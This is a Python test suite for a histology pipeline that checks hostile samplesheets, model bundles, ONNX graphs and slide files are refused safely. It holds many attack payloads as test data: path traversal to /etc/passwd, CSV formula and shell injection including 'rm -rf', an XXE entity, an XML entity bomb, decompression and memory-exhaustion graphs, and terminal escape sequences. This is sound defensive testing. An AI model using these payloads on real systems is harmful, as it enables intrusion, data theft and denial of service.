"""What a hostile sheet, bundle, table or slide holds is refused by a message that shows nothing harmful, or is harmless."""

from __future__ import annotations

import gzip
import json
import os
import re
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from onnx import ModelProto, TensorProto, helper
from onnx.parser import parse_model

from histocast.artifacts import write_json
from histocast.bundle import read_bundle, sha256_of_file
from histocast.errors import HistocastError, OutOfMemory
from histocast.foreign_errors import known_error
from histocast.inference import verify_bundle
from histocast.inference.graph_memory import least_call_bytes
from histocast.inference.onnx_predictor import OnnxErrors, open_session
from histocast.progress import log
from histocast.records import SlideRecord, read_record
from histocast.samplesheet import read_samplesheet
from histocast.sections.read_counts import read_counts
from histocast.sections.read_training_sheet import TrainingRow, read_training_sheet
from histocast.slide import open_slide
from histocast.stages.check_samples import check_samples
from histocast.storage import open_source
from histocast.tiles import spot_table
from histocast.tiles.spots import read_spots
from histocast.training.read_recipe import read_recipe
from known_encoders import write_encoder, write_shipped_bundle
from sample_bundle import write_bundle

CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

CELLS = {
    "path traversal": "../../etc/passwd",
    "absolute path": "/etc/passwd",
    "the folder above": "..",
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "formula by a sign": "+1+cmd|' /C calc'!A0",
    "formula by an at sign": "@SUM(1)",
    "formula by a hyphen": "-2+3",
    "html": "<script>alert(1)</script>",
    "shell": "$(touch /tmp/x)`id`;rm -rf ~",
    "terminal": "\x1b]0;title\x07\x1b[2Jx",
    "terminal, eight bits": "\x9b2Jx",
    "text turned round": "a\u202egnp.svs",
    "line feed": "a\nerror: b",
    "option": "--help",
    "template": "{{ 7 * 7 }}${7*7}%s%n",
}


def assert_harmless(error: HistocastError) -> None:
    """It exits as expected failures do, and its message holds nothing that a terminal obeys."""
    assert error.exit_code in (64, 65, 66, 78)
    assert not CONTROL.search(error.message)
    assert len(error.message) < 20_000


@pytest.mark.parametrize("attack", CELLS)
@pytest.mark.parametrize("column", ["sample", "slide", "mpp", "spots"])
def test_cells_of_a_samplesheet(tmp_path: Path, column: str, attack: str) -> None:
    cells = {"sample": "S1", "slide": "none.svs", "mpp": "0.5", "spots": "none.csv", column: CELLS[attack]}
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells.values()]
    (tmp_path / "sheet.csv").write_text(",".join(cells) + "\n" + ",".join(quoted) + "\n")
    with pytest.raises(HistocastError) as caught:
        check_samples(tmp_path / "sheet.csv", bundle_folder=tmp_path)
    assert_harmless(caught.value)
    if column in ("sample", "mpp"):
        assert f"line 2, column '{column}'" in caught.value.message


@pytest.mark.parametrize("attack", CELLS)
@pytest.mark.parametrize("place", ["name", "cell"])
def test_metadata_of_a_samplesheet(tmp_path: Path, place: str, attack: str) -> None:
    """Any text that can be shown is taken, because it goes into JSON, Parquet and pages that escape it; no other."""
    name, cell = (CELLS[attack], "x") if place == "name" else ("stage", CELLS[attack])
    quoted = [
        ['"' + part.replace('"', '""') + '"' for part in row]
        for row in (("sample", "slide", name), ("S1", "a.svs", cell))
    ]
    (tmp_path / "sheet.csv").write_text("\n".join(map(",".join, quoted)) + "\n")
    rows, faults = read_samplesheet(str(tmp_path / "sheet.csv"))
    if not len(faults):
        assert rows[0].metadata == {name: cell}
        assert not CONTROL.search(name + cell)
    else:
        with pytest.raises(HistocastError) as caught:
            faults.raise_if_any()
        assert_harmless(caught.value)


# What opens the file of a cell that the sheet itself cannot refuse.
OPENS: dict[str, Callable[[TrainingRow], Any]] = {
    "slide": lambda row: open_slide(
        open_source(row.slide, name="slide of sample S1").__enter__(), sample="S1", mpp=None, scratch=Path()
    ),
    "counts": lambda row: read_counts(Path(row.counts)),
    "spots": lambda row: read_spots(Path(str(row.spots))),
}


@pytest.mark.parametrize("attack", CELLS)
@pytest.mark.parametrize("column", ["sample", "slide", "counts", "patient", "spots", "mpp", "a column"])
def test_cells_of_a_training_sheet(tmp_path: Path, column: str, attack: str) -> None:
    cells = {"sample": "S1", "slide": "a.svs", "counts": "c.h5ad", "patient": "P1", "spots": "s.csv", "mpp": "0.5"}
    header = [*cells, *([CELLS[attack]] if column == "a column" else [])]
    cells[column] = CELLS[attack]
    rows = [['"' + cell.replace('"', '""') + '"' for cell in row] for row in (header, cells.values())]
    (tmp_path / "sheet.csv").write_text("\n".join(map(",".join, rows)) + "\n")
    opens = OPENS.get(column, lambda _: None)
    with pytest.raises(HistocastError) as caught:
        opens(read_training_sheet(tmp_path / "sheet.csv")[0])
    assert_harmless(caught.value)


SECRETS = {
    "passwords": "root:x:0:0:root:/root:/bin/bash\nsecret:x:1:1:secret:/:/bin/sh\n",
    "hosts": "127.0.0.1\tsecret.example.org\tsecret\n10.0.0.1\tsecret\tsecret\n",
    "a key": "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret" + "A" * 60 + "=\n-----END OPENSSH PRIVATE KEY-----\n",
    "settings": "[default]\naws_access_key_id = secret\naws_secret_access_key = secret\n",
    "names twice": "secret,secret\n1,2\n",
    "json": '{"secret": "secret"}\n',
}


@pytest.mark.parametrize("secret", SECRETS)
def test_the_content_of_a_file_that_is_no_table_is_not_quoted(tmp_path: Path, secret: str) -> None:
    path = tmp_path / "file"
    path.write_text(SECRETS[secret])
    write_bundle(tmp_path / "bundle")
    readers: list[Callable[[], Any]] = [
        lambda: read_spots(path),
        read_samplesheet(str(path))[1].raise_if_any,
        lambda: read_training_sheet(path),
        lambda: read_record(path, SlideRecord),
    ]
    for read in readers:
        with pytest.raises(HistocastError) as caught:
            read()
        assert "secret" not in caught.value.message.replace(str(tmp_path), "")
        assert "OPENSSH" not in caught.value.message


def pipe(path: Path) -> Path:
    os.mkfifo(path)
    return path


UNREADABLE: dict[str, Callable[[Path], Path]] = {
    "a pipe": pipe,
    "a link to a pipe": lambda path: (path.symlink_to(pipe(path.with_name("pipe"))), path)[1],
    "a device": lambda _: Path("/dev/zero"),
    "a terminal": lambda _: Path("/dev/tty"),
    "a folder": lambda path: (path.mkdir(), path)[1],
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("kind", UNREADABLE)
def test_devices_and_pipes_are_refused_and_not_opened(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = UNREADABLE[kind](tmp_path / "odd")
    really_open = os.open

    def opened(file: Any, *arguments: Any, **options: Any) -> int:
        assert Path(str(file)).resolve() != path.resolve(), "it was opened"
        return really_open(file, *arguments, **options)

    monkeypatch.setattr(os, "open", opened)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(f"sample,slide,spots\nS1,{path},\nS2,{__file__},{path}\n")
    (tmp_path / "bundle").mkdir()
    if kind != "a folder":
        (tmp_path / "bundle" / "bundle.json").symlink_to(path)
    for read in (
        lambda: read_samplesheet(str(path)),
        lambda: read_training_sheet(path),
        lambda: read_spots(path),
        lambda: check_samples(sheet, bundle_folder=tmp_path),
        lambda: read_bundle(tmp_path / "bundle"),
    ):
        with pytest.raises(HistocastError) as caught:
            read()
        assert_harmless(caught.value)


def test_a_table_that_unpacks_to_very_much_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spot_table, "_MAX_TEXT_BYTES", 1 << 20)
    (tmp_path / "spots.csv.gz").write_bytes(gzip.compress(b"x,y\n" + b"1,1\n" * (1 << 19)))
    with pytest.raises(HistocastError, match="GiB of text"):
        read_spots(tmp_path / "spots.csv.gz")


# What bundle.json states, by the path of its keys, and a word of the refusal.
STATED: dict[str, tuple[tuple[str | int, ...], Any, str]] = {
    "a graph above": (("fusion", "file"), "../secret.onnx", "within the bundle"),
    "a graph anywhere": (("fusion", "file"), "/etc/passwd", "within the bundle"),
    "an encoder above": (("encoders", 0, "file"), "encoders/../../secret", "within the bundle"),
    "weights above": (("fusion", "weights_file"), "../weights", "within the bundle"),
    "a name with a tab": (("fusion", "file"), "fusion\x1b[2J.onnx", "within the bundle"),
    "an encoder's name": (("encoders", 0, "name"), "../../x", "encoders.0.name"),
    "huge tiles": (("geometry", "tile_px"), 200_000, "geometry.tile_px"),
    "a tiny pitch": (("geometry", "pitch_um"), 0.005, "geometry.pitch_um"),
    "an endless pitch": (("geometry", "pitch_um"), float("inf"), "geometry.pitch_um"),
    "no resolution": (("geometry", "um_per_px"), 0.0001, "geometry.um_per_px"),
    "tiles of another size": (("geometry", "tile_px"), 256, "as geometry.tile_px"),
    "very many genes": (("gene_count",), 10**9, "gene_count"),
    "no genes": (("gene_count",), 0, "gene_count"),
    "huge regions": (("fusion", "region_spots"), 10**9, "region_spots"),
    "huge halos": (("fusion", "halo_spots"), 10**6, "halo_spots"),
    "a huge axis": (("encoders", 0, "outputs", 0, "shape"), ["tile", 10**12], "shape"),
    "much memory": (("encoders", 0, "outputs", 0, "shape"), ["tile", 10**5, 10**5], "GiB in one call"),
    "a key that is unknown": (("run",), "rm -rf /", "run"),
}


@pytest.mark.parametrize("attack", STATED)
def test_what_a_bundle_states(tmp_path: Path, attack: str) -> None:
    keys, value, word = STATED[attack]
    content = write_shipped_bundle(tmp_path, write_encoder(tmp_path, "nuclei", output="map")).model_dump(mode="json")
    place = content
    for key in keys[:-1]:
        place = place[key]
    place[keys[-1]] = value
    write_json(tmp_path / "bundle.json", Loose(content))
    with pytest.raises(HistocastError) as caught:
        verify_bundle(tmp_path)
    assert_harmless(caught.value)
    assert word in caught.value.message


class Loose:
    """A bundle as no model would write it."""

    def __init__(self, content: dict[str, Any]) -> None:
        self.content = content

    def model_dump_json(self, **_: Any) -> str:
        return json.dumps(self.content)


@pytest.mark.parametrize("name", ["fusion.onnx", "genes.parquet", "encoders/morphology.onnx"])
def test_a_file_of_a_bundle_that_links_out_of_it(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "bundle"
    write_shipped_bundle(folder, write_encoder(folder, "nuclei", output="map"))
    outside = tmp_path / "outside"
    (folder / name).rename(outside)
    (folder / name).symlink_to(outside)
    with pytest.raises(HistocastError, match="leads out of the bundle") as caught:
        verify_bundle(folder)
    assert_harmless(caught.value)


def graph_with(place: str, weights: TensorProto) -> ModelProto:
    """A graph that adds a tensor, which it keeps in one of the places of a graph."""
    target = helper.make_tensor_value_info("target", TensorProto.FLOAT, [4])
    result = helper.make_tensor_value_info("expression", TensorProto.FLOAT, [4])
    add = helper.make_node("Add", ["target", "w"], ["expression"])
    constant = helper.make_node("Constant", [], ["w"], value=weights)
    opsets = [helper.make_opsetid("", 17)]
    if place == "initializer":
        graph = helper.make_graph([add], "g", [target], [result], [weights])
    elif place == "attribute":
        graph = helper.make_graph([constant, add], "g", [target], [result])
    elif place == "branch":
        branches = [
            helper.make_graph([constant], name, [], [helper.make_tensor_value_info("w", TensorProto.FLOAT, [4])])
            for name in ("then", "else")
        ]
        always = helper.make_node("Constant", [], ["c"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True]))
        chosen = helper.make_node("If", ["c"], ["w"], then_branch=branches[0], else_branch=branches[1])
        graph = helper.make_graph([always, chosen, add], "g", [target], [result])
    else:
        function = helper.make_function("f", "Weigh", ["target"], ["expression"], [constant, add], opsets)
        call = helper.make_node("Weigh", ["target"], ["expression"], domain="f")
        graph = helper.make_graph([call], "g", [target], [result])
        opsets = [*opsets, helper.make_opsetid("f", 1)]
        return helper.make_model(graph, opset_imports=opsets, functions=[function], ir_version=8)
    return helper.make_model(graph, opset_imports=opsets, ir_version=8)


@pytest.mark.parametrize(
    ("location", "place"),
    [
        *((location, "initializer") for location in ("../outside", "/etc/passwd", "/dev/zero", "linked", "absent")),
        *(("beside", place) for place in ("initializer", "attribute", "branch", "function")),
        *((location, "initializer") for location in ("genes.parquet", "*/_ORT_MEM_ADDR_/*", "fusion.onnx.data")),
    ],
)
def test_weights_that_no_bundle_states(tmp_path: Path, location: str, place: str) -> None:
    folder = tmp_path / "bundle"
    bundle = write_shipped_bundle(folder, write_encoder(folder, "nuclei", output="map"))
    for path in (tmp_path / "outside", folder / "beside", folder / "fusion.onnx.data"):
        path.write_bytes(bytes(1 << 16))
    (folder / "linked").symlink_to(tmp_path / "outside")
    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    path = folder / "fusion.onnx"
    path.write_bytes(graph_with(place, weights).SerializeToString())
    fusion = bundle.fusion.model_copy(update={"sha256": sha256_of_file(path)})
    write_json(folder / "bundle.json", bundle.model_copy(update={"fusion": fusion}))
    with pytest.raises(HistocastError, match=r"loads .* from beside it") as caught:
        verify_bundle(folder)
    assert_harmless(caught.value)


VAST = {
    "a shape in the graph": "side = Constant <value = int64[2] {1048576, 1048576}> () made = ConstantOfShape (side)",
    "an input repeated": "times = Constant <value = int64[1] {1099511627776}> () made = Tile (target, times)",
    "an input spread": "side = Constant <value = int64[2] {1099511627776, 1}> () made = Expand (target, side)",
    "numbers in a row": (
        "from = Constant <value_int = 0> () to = Constant <value_int = 1099511627776> () step = Constant <value_int = 1> () "
        "whole = Range (from, to, step) made = Cast <to = 1> (whole)"
    ),
    "a shape that is computed": (
        "rows = Shape (target) many = Constant <value = int64[1] {1073741824}> () side = Mul (rows, many) "
        "made = ConstantOfShape (side)"
    ),
    "each by each": (
        "column = Constant <value = int64[2] {-1, 1}> () wide = Constant <value = int64[1] {200000}> () "
        "row = ConstantOfShape (wide) upright = Reshape (row, column) made = Mul (row, upright)"
    ),
    "a branch": (
        "always = Constant <value = bool {1}> () made = If (always) <then_branch = yes () => (float[rows] a) "
        "{ side = Constant <value = int64[1] {1099511627776}> () a = ConstantOfShape (side) }, else_branch = no () => "
        "(float[rows] b) { few = Constant <value = int64[1] {1}> () b = ConstantOfShape (few) }>"
    ),
    "a function": "made = own.Make (target)",
    "many at once": "side = Constant <value = int64[2] {65536, 65536}> () "
    + " ".join(f"part{number} = ConstantOfShape (side)" for number in range(5))
    + " made = Sum (part0, part1, part2, part3, part4)",
    "few numbers of many": "made = Identity (target)",
}
VAST_MODEL = """
<ir_version: 8, opset_import: ["" : 18, "own" : 1]>
attack (float[spot] target) => (float[spot] expression) {{ {nodes} sum = ReduceSum <keepdims = 0> (made) expression = Add (target, sum) }}
<domain: "own", opset_import: ["" : 18]>
Make (x) => (y) {{ side = Constant <value = int64[1] {{1099511627776}}> () y = ConstantOfShape (side) }}
"""


@pytest.mark.parametrize("attack", VAST)
def test_a_graph_that_makes_very_much(tmp_path: Path, attack: str) -> None:
    bundle = write_shipped_bundle(tmp_path, write_encoder(tmp_path, "nuclei", output="map"))
    model = parse_model(VAST_MODEL.format(nodes=VAST[attack]))
    if attack == "few numbers of many":
        values = helper.make_tensor("sparse", TensorProto.FLOAT, [1], [1.0])
        place = helper.make_tensor("place", TensorProto.INT64, [1], [0])
        model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, place, [1 << 20, 1 << 20]))
    path = tmp_path / "fusion.onnx"
    path.write_bytes(model.SerializeToString())
    fusion = bundle.fusion.model_copy(update={"sha256": sha256_of_file(path)})
    write_json(tmp_path / "bundle.json", bundle.model_copy(update={"fusion": fusion}))
    refused = r"graph 'fusion' makes within itself \S+ GiB in one call|no shapes can be inferred .* out of memory"
    with pytest.raises(HistocastError, match=refused) as caught:
        verify_bundle(tmp_path)
    assert_harmless(caught.value)


def test_a_graph_that_makes_as_much_as_its_input_says(tmp_path: Path) -> None:
    """No shape is known before it runs: the task's memory is the bound, and it ends as too little of it."""
    text = "vast (int64[rank] side) => (float[side] made) { made = ConstantOfShape (side) }"
    path = tmp_path / "vast.onnx"
    path.write_bytes(parse_model(f'<ir_version: 8, opset_import: ["" : 18]> {text}').SerializeToString())
    assert least_call_bytes(path, {}) < 1024
    with pytest.raises((HistocastError, *OnnxErrors)) as caught:
        open_session(path, threads=1).run(None, {"side": np.array([1 << 24, 1 << 24])})
    ended = known_error(caught.value)
    assert isinstance(ended, OutOfMemory), caught.value


@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 200_000, "1" * 5_000, '{"tile_px": 1e999999}'])
def test_json_that_is_deep_or_long(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bundle.json"
    path.write_text(text)
    for read in (lambda: read_bundle(tmp_path), lambda: read_record(path, SlideRecord), lambda: read_recipe(str(path))):
        with pytest.raises(HistocastError) as caught:
            read()
        assert_harmless(caught.value)


def directory(entries: dict[int, tuple[int, int]], following: int) -> bytes:
    """One TIFF directory of single numbers: type and value by tag."""
    packed = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, (kind, value) in sorted(entries.items()))
    return struct.pack("<H", len(entries)) + packed + struct.pack("<I", following)


def tiff(width: int, height: int, *, following: int = 0, text: bytes = b"", tile: int = 256) -> bytes:
    """A tiled TIFF that states a size and holds no pixel."""
    entries = {
        256: (4, width), 257: (4, height), 258: (3, 8), 259: (3, 7), 262: (3, 2), 277: (3, 3),
        322: (4, tile), 323: (4, tile), 324: (4, 8), 325: (4, 100),
    }  # fmt: skip
    data = bytearray(b"II*\0" + struct.pack("<I", 8) + directory(entries, following))
    if text:
        at, count = len(data), len(entries)
        entry = struct.pack("<HHII", 270, 2, len(text), at + 12)
        packed = directory(entries, 0)[2:-4]
        position = sum(tag < 270 for tag in entries) * 12
        data = bytearray(b"II*\0" + struct.pack("<IH", 8, count + 1) + packed[:position] + entry + packed[position:])
        data += struct.pack("<I", following) + text
    return bytes(data)


def png(width: int, height: int) -> bytes:
    """A small file that decodes to very much."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + chunk(b"IEND", b"")
    )


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE OME [<!ENTITY a "aaaaaaaaaa">' + b"".join(
    b'<!ENTITY %c "%s">' % (letter + 1, b"&%c;" % letter * 10) for letter in range(ord("a"), ord("j"))
)
SLIDES = {
    "a directory that follows itself": tiff(1000, 1000, following=8),
    "sides of two thousand million": tiff(2**31 - 1, 2**31 - 1),
    "tiles of two thousand million": tiff(1000, 1000, tile=2**31 - 16),
    "entities upon entities": tiff(1000, 1000, text=ENTITIES + b']><OME xmlns="x">&j;</OME>\0'),
    "an entity of a file": tiff(
        1000,
        1000,
        text=b'<?xml version="1.0"?><!DOCTYPE OME [<!ENTITY a SYSTEM "file:///etc/passwd">]><OME>&a;</OME>\0',
    ),
    "deep xml": tiff(1000, 1000, text=b'<?xml version="1.0"?>' + b"<OME>" * 100_000 + b"\0"),
    "a vast png": png(200_000, 200_000),
    "a property that a terminal obeys": tiff(1000, 1000, text=b"Aperio |MPP = \x1b[2J|AppMag = \x1b]0;x\x07\0"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("attack", SLIDES)
def test_slides(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "slide.ome.tif"
    path.write_bytes(SLIDES[attack])
    with (
        pytest.raises(HistocastError) as caught,
        open_source(str(path)) as source,
        open_slide(source, sample="S1", mpp=None, scratch=tmp_path) as slide,
    ):
        slide.thumbnail(256)
    assert_harmless(caught.value)
    assert "root:" not in caught.value.message


def test_logs_show_control_characters_and_do_not_send_them(capsys: pytest.CaptureFixture[str]) -> None:
    log("\x1b[2Ja\x9bb\u202ec")
    assert capsys.readouterr().err == "[histocast] \\x1b[2Ja\\x9bb\\u202ec\n"
